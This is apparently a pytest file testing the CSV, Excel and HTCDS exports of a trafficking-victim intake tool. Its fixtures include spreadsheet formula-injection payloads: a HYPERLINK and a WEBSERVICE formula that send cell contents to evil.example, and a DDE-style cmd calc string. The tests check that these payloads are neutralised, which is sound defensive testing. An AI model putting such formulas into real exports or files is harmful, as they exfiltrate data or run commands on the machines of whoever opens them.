"""The workspace's exports: CSV, Excel and HTCDS, read back with csv and openpyxl.

Expected columns and values are written by hand (from docs/exports.md,
docs/htcds.md and the design's HTCDS.md), not computed by the code under test.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest

from intake.questionnaire import load_questionnaire
from intake.workspace import exports, htcds, xlsx
from intake.workspace.exports import Case

ROOT = Path(__file__).parent.parent
SNAPSHOT = Path(__file__).parent / "export_columns.txt"
DEVICE = "0123456789abcdef"
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
ARABIC = 'قال لي: "سأدفع لك"، ثم\nلم يدفع, أبداً'
ADULT_ANSWERS = {
    "danger_now": "yes", "controller_nearby": "no", "under_18": "no", "age": 34,
    "consent_explained": "yes", "consent": "yes", "present": ["no_one"],
    "gender": "woman", "nationality": "ER", "current_location": HOSTILE,
    "recruitment_country": "ER", "recruitment_date": "2025-01-02",
    "transit_places": "Khartoum; Tripoli", "exploitation_country": "LY",
    "exploitation_date": "2025-03-04", "recruitment_channel": "online",
    "recruitment_app": "whatsapp", "recruiter_role": ["recruiter", "smuggler"],
    "exploitation_type": ["forced_work", "sex"], "labour_sector": "construction",
    "free_to_leave": "no", "dr1": "yes", "dr2": "yes", "cr1": "yes", "ex1": "yes",
    "ex2": "yes", "cd1": "yes", "cd3": "yes", "rv_used": "yes",
    "rv_situations": ["no_papers", "no_money"], "anything_else": ARABIC,
}  # fmt: skip
CHILD_ANSWERS = {
    "danger_now": "no", "controller_nearby": "unknown", "under_18": "not_sure",
    "guardian_present": "no", "age_assessment": "presumed",
    "consent_explained": "yes", "consent": "yes", "present": ["interpreter_remote"],
    "child_act": "yes", "child_act_purpose": ["begging", "sex"],
}  # fmt: skip
HTCDS_NAMES = [
    "intake_RecordId",
    "intake_Reference",
    "prs_Gender",
    "prs_Nationality",
    "prs_MobilePhone",
    "prs_MailingCity",
    "vic_AgreementToManagePersonalData",
    "vic_RecruitmentWebsitesAndApps",
    "vic_MethodOfRecruitment",
    "vic_MethodsOfControl",
    "vic_TypeOfLabourExploitation",
    "vic_TypeOfSexExploitation",
    "vic_Vulnerabilities",
    "per_RoleInProcess",
    "hte_Type",
    "hte_Country",
    "hte_Date",
    "hte_Description",
    "cas_Status",
]


def screening(record_id: str, answers: dict, questionnaire: str = "screening-full") -> dict:
    """Build a record as the field device seals it (intake/field/interview.py, record_of)."""
    form = load_questionnaire(questionnaire)
    answers = form.effective_answers(answers)
    record = {
        "id": record_id,
        "reference": "K7Q-" + record_id[:4].upper(),
        "kind": "screening",
        "questionnaire": {"id": form.id, "version": form.version},
        "languages": {"respondent": "ar", "officer": "en"},
        "started": "2026-03-14T09:00:00Z",
        "finished": "2026-03-14T09:40:00Z",
        "officer": "amal",
        "device": DEVICE,
        "answers": answers,
        "indicators": form.indicators_from_answers(answers),
        "child": form.is_child(answers),
        "urgent": form.urgent_flags(answers),
        "assessment": form.assess(answers),
    }
    return json.loads(json.dumps(record))  # as opened: plain JSON, no Message objects


def header(record_id: str, questionnaire: str | None = "screening-full@2.0.0") -> dict:
    return {
        "created": "2026-03-14T09:41:00Z",
        "device": DEVICE,
        "id": record_id,
        "kind": "screening",
        "questionnaire": questionnaire,
        "recipients": ["fedcba9876543210"],
    }


ADULT_ID = "6f1c2c4e-8f0a-4f43-9b55-2d7f6c1c0e11"
CHILD_ID = "1d1f5e02-3c5b-4a4e-9a67-0b0e6f7c2d10"
OTHER_ID = "9a6b8c1d-2e3f-4a5b-8c7d-6e5f4a3b2c1d"


def cases() -> list:
    adult = screening(ADULT_ID, ADULT_ANSWERS)
    adult["answers"]["retired_question"] = "from an older form"
    adult["note_added_later"] = "+1 555 0100"
    child = screening(CHILD_ID, CHILD_ANSWERS, "screening-short")
    other = {"id": OTHER_ID, "name": "@SUM(1+1)", "ti": "ሕጂ ብሰላም ዲኻ፧"}
    return [
        Case(header(ADULT_ID), adult, "Crossing 7, north gate", "referred"),
        {"header": header(CHILD_ID, "screening-short@2.0.0"), "record": child, "status": "new"},
        Case({**header(OTHER_ID, None), "kind": "referral"}, other),
    ]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def as_dicts(rows: list[list[str]]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_columns_start_and_end_as_documented():
    columns = exports.export_columns()
    assert columns[:36] == [
        "record_id", "reference", "kind", "questionnaire", "questionnaire_version",
        "created", "started", "finished", "device", "field_post", "officer", "status",
        "respondent_language", "officer_language", "child", "outcome", "exploitation_list",
        "dim_deceptive_recruitment", "dim_coercive_recruitment",
        "dim_recruitment_abuse_of_vulnerability", "dim_exploitative_conditions",
        "dim_coercion_at_destination", "dim_abuse_of_vulnerability_at_destination",
        "urgent", "urgent_danger_now", "urgent_controller_nearby", "urgent_urgent_medical",
        "urgent_nowhere_to_sleep", "urgent_dependants_unsafe", "urgent_child_alone",
        "urgent_unspecified", "indicators", "routes", "referral_options", "reasons",
        "q_danger_now",
    ]  # fmt: skip
    assert columns[-3:] == ["q_consent_police", "extra_fields", "extra_answers"]
    assert len(columns) == len(set(columns))
    questions = [c for c in columns if c.startswith("q_")]
    full = [f"q_{q.id}" for q in load_questionnaire("screening-full").questions]
    assert questions[: len(full)] == full


def test_the_column_names_never_change_silently():
    """A renamed, dropped or moved column breaks partners' imports: change the snapshot by hand."""
    snapshot = SNAPSHOT.read_text("utf-8").split()
    assert exports.export_columns() == snapshot


def test_every_column_is_documented():
    described = exports.column_descriptions()
    assert [name for name, _holds, _values in described] == exports.export_columns()
    assert all(holds and values for _name, holds, values in described)
    docs = (ROOT / "docs" / "exports.md").read_text("utf-8")
    for name in exports.export_columns():
        assert f"`{name}`" in docs, f"{name} is not in docs/exports.md"
    htcds_doc = (ROOT / "docs" / "htcds.md").read_text("utf-8")
    for name in htcds.HTCDS_COLUMNS:
        assert f"`{name}`" in htcds_doc, f"{name} is not in docs/htcds.md"


def test_csv_has_every_column_and_every_answer_round_trips():
    out = io.BytesIO()
    exports.write_csv(out, cases())
    rows = read_csv(out.getvalue())
    assert rows[0] == exports.export_columns()
    assert all(len(row) == len(rows[0]) for row in rows)
    adult, child, other = as_dicts(rows)
    record = screening(ADULT_ID, ADULT_ANSWERS)
    for question_id, value in record["answers"].items():
        expected = ";".join(value) if isinstance(value, list) else str(value)
        if question_id == "current_location":
            expected = "'" + HOSTILE
        assert adult[f"q_{question_id}"] == expected, question_id
    assert adult["q_anything_else"] == ARABIC
    assert adult["q_recruiter_role"] == "recruiter;smuggler"
    assert adult["q_age"] == "34"
    assert adult["q_contact_phone"] == ""  # not asked
    assert {k: adult[k] for k in ("record_id", "reference", "kind", "created", "device")} == {
        "record_id": ADULT_ID,
        "reference": "K7Q-6F1C",
        "kind": "screening",
        "created": "2026-03-14T09:41:00Z",
        "device": DEVICE,
    }
    assert (adult["questionnaire"], adult["questionnaire_version"]) == ("screening-full", "2.0.0")
    assert (adult["field_post"], adult["status"], adult["officer"]) == (
        "Crossing 7, north gate",
        "referred",
        "amal",
    )
    assert (adult["respondent_language"], adult["officer_language"]) == ("ar", "en")
    assert (adult["child"], adult["outcome"], adult["exploitation_list"]) == (
        "no",
        "refer_now",
        "sexual",
    )
    assert adult["dim_deceptive_recruitment"] == "yes"
    assert adult["dim_coercive_recruitment"] == "no"
    assert adult["dim_coercion_at_destination"] == "yes"
    assert (adult["urgent"], adult["urgent_danger_now"], adult["urgent_child_alone"]) == (
        "DANGER_NOW",
        "yes",
        "no",
    )
    assert adult["indicators"].split(";")[:3] == ["PURPOSE_LABOUR", "PURPOSE_SEX", "CD8"]
    assert "before_exploitation_control" in adult["routes"].split(";")
    assert "specialist_identification" in adult["referral_options"].split(";")
    assert "The ILO lists for sexual exploitation were used." in adult["reasons"].split("\n")
    assert json.loads(adult["extra_answers"]) == {"retired_question": "from an older form"}
    assert json.loads(adult["extra_fields"]) == {"note_added_later": "+1 555 0100"}

    assert (child["child"], child["questionnaire"], child["status"]) == (
        "yes",
        "screening-short",
        "new",
    )
    assert child["urgent_child_alone"] == "yes" and child["urgent_danger_now"] == "no"
    assert child["q_child_act_purpose"] == "begging;sex"
    assert child["outcome"] == "refer_now"
    assert child["field_post"] == "" and child["extra_fields"] == ""

    assert (other["record_id"], other["kind"], other["questionnaire"]) == (OTHER_ID, "referral", "")
    assert other["urgent_danger_now"] == "" and other["outcome"] == ""  # no screening, no figures
    assert json.loads(other["extra_fields"]) == {"name": "@SUM(1+1)", "ti": "ሕጂ ብሰላም ዲኻ፧"}


def test_misshapen_fields_are_kept_whole_in_extra_fields():
    record = {
        "id": ADULT_ID,
        "answers": {"danger_now": {"nested": 1}, "age": [1, [2]], "gender": "woman"},
        "child": "maybe",
        "assessment": [1, 2],
        "languages": {"respondent": "ar", "dialect": "Sudanese"},
        "urgent": "DANGER_NOW",
        "started": 17,
    }
    row = dict(zip(exports.export_columns(), exports.case_row(Case({}, record)), strict=True))
    assert row["q_gender"] == "woman" and row["q_danger_now"] == "" and row["child"] == ""
    assert json.loads(row["extra_answers"]) == {"danger_now": {"nested": 1}, "age": [1, [2]]}
    assert json.loads(row["extra_fields"]) == {
        "child": "maybe",
        "assessment": [1, 2],
        "languages": {"dialect": "Sudanese"},
        "urgent": "DANGER_NOW",
        "started": 17,
    }
    assert row["respondent_language"] == "ar" and row["urgent_danger_now"] == ""


def test_a_header_that_disagrees_with_the_record_keeps_both():
    record = {"id": OTHER_ID, "kind": "screening", "device": "fedcba9876543210"}
    cells = exports.case_row(Case(header(ADULT_ID), record))
    row = dict(zip(exports.export_columns(), cells, strict=True))
    assert (row["record_id"], row["device"]) == (ADULT_ID, DEVICE)
    assert json.loads(row["extra_fields"]) == {"id": OTHER_ID, "device": "fedcba9876543210"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_any_format_starts_a_formula(tmp_path, start):
    answers = {**ADULT_ANSWERS, "anything_else": start + "cmd|' /C calc'!A0"}
    record = screening(ADULT_ID, answers)
    record["answers"]["interpreter_id"] = start + "1+1"
    the_cases = [Case(header(ADULT_ID), record, start + "post", None)]
    csv_out, htcds_out = io.BytesIO(), io.BytesIO()
    exports.write_csv(csv_out, the_cases)
    htcds.write_htcds(htcds_out, the_cases)
    xlsx.write_xlsx(tmp_path / "cases.xlsx", the_cases)
    sheet = openpyxl.load_workbook(tmp_path / "cases.xlsx")["cases"]
    xlsx_rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    for rows in (read_csv(csv_out.getvalue()), read_csv(htcds_out.getvalue()), xlsx_rows):
        for row in rows:
            assert not any(cell.startswith(exports.FORMULA_START) for cell in row), row
    row = as_dicts(read_csv(csv_out.getvalue()))[0]
    assert row["q_anything_else"] == "'" + start + "cmd|' /C calc'!A0"
    assert row["field_post"] == "'" + start + "post"
    # XML reads a carriage return back as a line feed; the apostrophe is what counts.
    expected = "'" + start.replace("\r", "\n") + "1+1"
    assert as_dicts(xlsx_rows)[0]["q_interpreter_id"] == expected


WEBSERVICE = '=WEBSERVICE(CHAR(104)&"ttp://evil.example/?"&A1)'


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ("Calais;" + WEBSERVICE, "Calais;'" + WEBSERVICE),  # Excel's separator where ; is
        ("a\n=1+1", "a\n'=1+1"),
        ("a\r\n-1+1", "a\r\n'-1+1"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        (";+1", ";'+1"),
        ("Calais;  =1", "Calais;  '=1"),  # spaces a reader may trim
        ("=1;=2", "'=1;'=2"),
        ("\t=1", "'\t'=1"),
        ("\rcmd", "'\rcmd"),
        ("-3", "'-3"),  # a number typed as an answer is text in the file
        ("Khartoum; Tripoli", "Khartoum; Tripoli"),
        ("2+2=4 - a-b @home", "2+2=4 - a-b @home"),
        ("Calais, =1", "Calais, =1"),  # inside quotes a comma starts no cell
        ("'=1", "'=1"),  # already neutral: unchanged, so applying twice changes nothing
        (ARABIC, ARABIC),
        ("ሕጂ ብሰላም ዲኻ፧", "ሕጂ ብሰላም ዲኻ፧"),
        ("", ""),
    ],
)
def test_every_part_a_reader_could_take_for_a_cell_is_neutralised(typed, exported):
    assert exports.neutralise(typed) == exported


def _cell_starts(text: str) -> list[str]:
    """Every place a reader could start a cell inside this one, its leading spaces dropped."""
    return [part.lstrip(" ") for part in re.split(r"[;\t\r\n]", text)]


def test_hostile_answers_start_no_formula_in_any_format(tmp_path):
    """In a locale whose list separator is ;, Excel would split an unquoted Calais;=... in two."""
    answers = {
        **ADULT_ANSWERS,
        "current_location": "Calais;" + WEBSERVICE,
        "anything_else": "a\n=1+1",
        "transit_places": "=1",
        "safe_contact": "own_phone",
        "contact_phone": "+40 712 345 678;@SUM(1)",
    }
    record = screening(ADULT_ID, answers)
    record["answers"]["interpreter_id"] = "x\t@SUM(1)"
    record["answers"]["age"] = -3
    the_cases = [Case(header(ADULT_ID), record, ";+1", None)]
    csv_out, htcds_out = io.BytesIO(), io.BytesIO()
    exports.write_csv(csv_out, the_cases)
    htcds.write_htcds(htcds_out, the_cases)
    xlsx.write_xlsx(tmp_path / "cases.xlsx", the_cases)
    sheet = openpyxl.load_workbook(tmp_path / "cases.xlsx")["cases"]
    xlsx_rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    csv_rows, htcds_rows = read_csv(csv_out.getvalue()), read_csv(htcds_out.getvalue())
    for rows in (csv_rows, htcds_rows, xlsx_rows):
        for cell in (cell for row in rows for cell in row):
            assert not any(part.startswith(("=", "+", "-", "@")) for part in _cell_starts(cell))
    row = as_dicts(csv_rows)[0]
    assert row["q_current_location"] == "Calais;'" + WEBSERVICE
    assert row["q_anything_else"] == "a\n'=1+1"
    assert row["q_interpreter_id"] == "x\t'@SUM(1)"
    assert row["q_age"] == "'-3"
    assert row["field_post"] == ";'+1"
    assert as_dicts(xlsx_rows)[0]["q_current_location"] == "Calais;'" + WEBSERVICE
    mapped = as_dicts(htcds_rows)[0]
    assert mapped["prs_MailingCity"] == "Calais;'" + WEBSERVICE
    assert mapped["prs_MobilePhone"] == "'+40 712 345 678;'@SUM(1)"
    assert mapped["hte_Description"] == ";'=1;"
    # Every field is quoted, the plainest too: no ; is ever outside quotes.
    raw = csv_out.getvalue().decode("utf-8")
    assert raw.startswith('"record_id","reference","kind",')
    assert f'"{ADULT_ID}","K7Q-6F1C","screening",' in raw
    assert '"Calais;\'=WEBSERVICE(CHAR(104)&""ttp://evil.example/?""&A1)"' in raw
    assert htcds_out.getvalue().decode("utf-8").startswith('"intake_RecordId","intake_Reference",')
    assert f'\r\n"{ADULT_ID}","K7Q-6F1C","Female",' in htcds_out.getvalue().decode("utf-8")


def test_xlsx_holds_the_same_rows_as_text_and_describes_its_columns(tmp_path):
    csv_out, xlsx_out = io.BytesIO(), io.BytesIO()
    exports.write_csv(csv_out, cases())
    xlsx.write_xlsx(xlsx_out, cases())
    xlsx.write_xlsx(tmp_path / "cases.xlsx", cases())
    assert (tmp_path / "cases.xlsx").read_bytes()[:2] == b"PK"
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_out.getvalue()))
    assert workbook.sheetnames == ["cases", "columns"]
    sheet = workbook["cases"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    for row in sheet.iter_rows():
        assert all(cell.data_type == "s" for cell in row if cell.value is not None)
    values = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    assert values == read_csv(csv_out.getvalue())
    assert values[1][exports.export_columns().index("q_current_location")] == "'" + HOSTILE
    described = [[cell.value for cell in row] for row in workbook["columns"].iter_rows()]
    assert described[0] == ["column", "holds", "values"]
    assert [tuple(row) for row in described[1:]] == exports.column_descriptions()


def test_xlsx_is_written_without_a_temporary_file(monkeypatch):
    """openpyxl's write-only sheets go through a temporary file; opened answers must not."""
    import openpyxl.worksheet._writer as sheet_writer

    def refuse(*_args, **_kwargs):
        raise AssertionError("an opened record would be written to a temporary file")

    monkeypatch.setattr(sheet_writer, "create_temporary_file", refuse)
    out = io.BytesIO()
    xlsx.write_xlsx(out, cases())
    assert openpyxl.load_workbook(out)["cases"].max_row == 4


def test_xlsx_replaces_what_excel_cannot_hold(tmp_path):
    record = screening(ADULT_ID, {**ADULT_ANSWERS, "anything_else": "a\x00b\x1fc"})
    record["answers"]["observation_note"] = "x" * 40000
    xlsx.write_xlsx(tmp_path / "c.xlsx", [Case(header(ADULT_ID), record)])
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["cases"]
    row = dict(zip(exports.export_columns(), [c.value for c in sheet[2]], strict=True))
    assert row["q_anything_else"] == "a\ufffdb\ufffdc"
    assert len(row["q_observation_note"]) == 32767
    assert row["q_observation_note"].endswith("…[cut]")


def test_an_empty_export_still_has_its_header_row(tmp_path):
    out, htcds_out = io.BytesIO(), io.BytesIO()
    exports.write_csv(out, [])
    htcds.write_htcds(htcds_out, [])
    xlsx.write_xlsx(tmp_path / "empty.xlsx", [])
    assert read_csv(out.getvalue()) == [exports.export_columns()]
    assert read_csv(htcds_out.getvalue()) == [HTCDS_NAMES]
    sheet = openpyxl.load_workbook(tmp_path / "empty.xlsx")["cases"]
    assert [c.value for c in sheet[1]] == exports.export_columns() and sheet.max_row == 1


def test_csv_with_a_bom_for_excel():
    out = io.BytesIO()
    exports.write_csv(out, cases()[:1], bom=True)
    assert out.getvalue().startswith(b'\xef\xbb\xbf"record_id","reference",')
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert rows[0] == exports.export_columns()


def test_htcds_uses_the_standards_names_and_pick_list_values():
    out = io.BytesIO()
    htcds.write_htcds(out, cases())
    rows = read_csv(out.getvalue())
    assert rows[0] == HTCDS_NAMES
    adult, child, other = as_dicts(rows)
    assert adult == {
        "intake_RecordId": ADULT_ID,
        "intake_Reference": "K7Q-6F1C",
        "prs_Gender": "Female",
        "prs_Nationality": "ER",
        "prs_MobilePhone": "",
        "prs_MailingCity": "'" + HOSTILE,
        "vic_AgreementToManagePersonalData": "true",
        "vic_RecruitmentWebsitesAndApps": "WhatsApp",
        "vic_MethodOfRecruitment": "Internet (social media, online advertisement)",
        "vic_MethodsOfControl": "TakesEarnings;PhysicalAbuse;FalsePromises;RestrictsMovement;"
        "ExcessiveWorkingHours;WithholdsDocuments",
        "vic_TypeOfLabourExploitation": "Construction;Other",
        "vic_TypeOfSexExploitation": "Prostitution",
        "vic_Vulnerabilities": "Poverty;Migration",
        "per_RoleInProcess": "RecruiterOrIntermediary;Smuggler",
        "hte_Type": "Recruitment;Transit;Exploitation",
        "hte_Country": "ER;;LY",
        "hte_Date": "2025-01-02;;2025-03-04",
        "hte_Description": ";Khartoum, Tripoli;",
        "cas_Status": "FollowUp",
    }
    assert child["vic_TypeOfLabourExploitation"] == "Begging"
    assert child["vic_TypeOfSexExploitation"] == "Prostitution"
    assert child["vic_AgreementToManagePersonalData"] == "true"
    assert child["cas_Status"] == "Active" and child["hte_Type"] == ""
    assert other == {name: "" for name in HTCDS_NAMES} | {"intake_RecordId": OTHER_ID}


def test_every_htcds_field_a_questionnaire_feeds_has_a_column():
    """A new mapping in a questionnaire must not be dropped silently from the HTCDS export."""
    for name in ("screening-full", "screening-short"):
        for question in load_questionnaire(name).questions:
            fields = {question.htcds} | {c.htcds for c in question.choices}
            assert fields - {None} <= set(HTCDS_NAMES), question.id
    for name in HTCDS_NAMES:
        prefix, _, field = name.partition("_")
        if prefix != "intake":
            assert field in HTCDS_STANDARD[prefix], name


# The standard's field names by prefix, copied by hand from IOM's field
# reference (UNMigration/HTCDS, "HTCDS Field Reference.md"), as the design's
# HTCDS.md lists them: the export may use no other name.
HTCDS_STANDARD = {
    "prs": {
        "Salutation", "FirstName", "MiddleName", "SecondName", "Birthdate", "Gender",
        "Deceased", "Nationality", "Title", "Email", "HomePhone", "MobilePhone", "MailingCity",
        "MailingCountry", "MailingState", "MailingStreet", "MailingPostalCode",
        "MailingLongitude", "MailingLatitude",
    },
    "vic": {
        "AgreementToManagePersonalData", "RecruitmentWebsitesAndApps", "MethodOfRecruitment",
        "LocationOfRecruitment", "MethodsOfControl", "TypeOfLabourExploitation",
        "LabourIndustry", "TypeOfSexExploitation", "LocationOfExploitation",
        "ExploitationWebsitesAndApps", "Vulnerabilities", "DetailsOfVulnerabilities",
    },
    "per": {"RoleInProcess", "RoleDetails", "Organisation"},
    "hte": {
        "Longitude", "Latitude", "City", "Country", "State", "Street", "PostalCode", "Date",
        "Type", "Description",
    },
    "cas": {
        "Status", "ReferringOrganisation", "IncomingReferralDate", "ReferringPrimaryCaseWorker",
        "ReasonForIncomingReferral", "IncomingReferralDetails", "ReferredOrganisation",
        "ReferredPrimaryCaseWorker", "ReasonForOutgoingReferral", "OutgoingReferralDate",
        "OutgoingReferralDetails", "ReasonForCaseClosure",
    },
}  # fmt: skip


def test_intake_open_csv_writes_the_export_columns(intake_cli, keys, passphrase_file, tmp_path):
    key, pub, _, _ = keys
    paths = []
    for n, (record_id, answers, form) in enumerate(
        [(ADULT_ID, ADULT_ANSWERS, "screening-full"), (CHILD_ID, CHILD_ANSWERS, "screening-short")]
    ):
        record = screening(record_id, answers, form)
        sealed = intake_cli(
            "seal", "--to", pub, "--kind", "screening", input=json.dumps(record).encode()
        )
        assert sealed.returncode == 0, sealed.stderr
        paths.append(tmp_path / f"{n}.env")
        paths[-1].write_bytes(sealed.stdout)
    opened = intake_cli(
        "open", "--key", key, "--passphrase-file", passphrase_file, "--format", "csv", *paths
    )
    assert opened.returncode == 0, opened.stderr
    rows = read_csv(opened.stdout)
    assert rows[0] == exports.export_columns()
    adult, child = as_dicts(rows)
    assert (adult["record_id"], adult["kind"], adult["status"]) == (ADULT_ID, "screening", "")
    assert adult["q_current_location"] == "'" + HOSTILE
    assert adult["q_anything_else"] == ARABIC
    assert adult["outcome"] == "refer_now" and adult["extra_fields"] == ""
    assert child["questionnaire"] == "screening-short" and child["child"] == "yes"


def test_the_reader_writes_each_row_as_it_comes():
    """`intake open` keeps memory constant: a row is out before the next record is read."""
    from intake.workspace.reading import CsvWriter, Opened

    out = io.BytesIO()
    writer = CsvWriter(out)
    assert out.getvalue() == b""  # nothing, not even the header, before a record opens
    record = json.dumps(screening(ADULT_ID, ADULT_ANSWERS)).encode()
    writer.write(Opened(header(ADULT_ID), record))
    assert len(read_csv(out.getvalue())) == 2
    writer.write(Opened(header(CHILD_ID), b'{"a":1}'))
    assert len(read_csv(out.getvalue())) == 3
    writer.close()


def _workspace_with(tmp_path, coordinator_key, ages: list[int]):
    """A workspace holding one verified adult's screening per age; return it and the records."""
    from tests.workspaces import Device, make_workspace, screening_record, store_rows

    inst = make_workspace(tmp_path / "ws", coordinator_key)
    device = Device()
    device.pin(inst)
    people = [{"danger_now": "no", "under_18": "no", "age": age} for age in ages]
    records = [screening_record(p, device=device.id) for p in people]
    store_rows(inst, [device.seal(r, [coordinator_key.public_key()]) for r in records])
    return inst, records


@pytest.mark.parametrize("error", [RuntimeError("a record does not open"), KeyboardInterrupt()])
def test_an_export_that_fails_midway_leaves_no_file(
    tmp_path, coordinator_key, passphrase_file, monkeypatch, error
):
    """Half an export is answers in the clear: neither the file nor its partial file stays."""
    from intake.workspace import exporting

    inst, [record] = _workspace_with(tmp_path, coordinator_key, [30])

    def half_then_fail(_database, _opener, _cases, _fmt, out):
        out.write(b'"record_id","reference"\r\n"' + record["id"].encode() + b'",')
        out.flush()
        raise error

    monkeypatch.setattr(exporting, "export", half_then_fail)
    folder = tmp_path / "out"
    folder.mkdir()
    result = _export(inst, folder / "cases.csv", passphrase_file)
    assert result.exit_code == 1
    assert "Wrote" not in result.output
    assert list(folder.iterdir()) == []


def _export(inst, out, passphrase_file):
    from click.testing import CliRunner

    from intake.commands import main

    return CliRunner().invoke(
        main,
        ["export", "--instance", str(inst.path), "--format", "csv", "--out", str(out),
         "--passphrase-file", str(passphrase_file)],
    )  # fmt: skip


def test_an_export_says_how_many_cases_did_not_open(
    tmp_path, coordinator_key, passphrase_file, monkeypatch
):
    from intake.workspace import exporting

    inst, _records = _workspace_with(tmp_path, coordinator_key, [30, 41, 52])

    def two_skipped(_database, _opener, _cases, _fmt, out):
        out.write(b"one case\r\n")
        return 1, 2

    monkeypatch.setattr(exporting, "export", two_skipped)
    result = _export(inst, tmp_path / "cases.csv", passphrase_file)
    assert result.exit_code == 1
    assert "Wrote 1 of 3 cases to" in result.stdout
    assert result.stderr == "intake: 2 cases did not open and are not in the file\n"
    assert (tmp_path / "cases.csv").read_bytes() == b"one case\r\n"
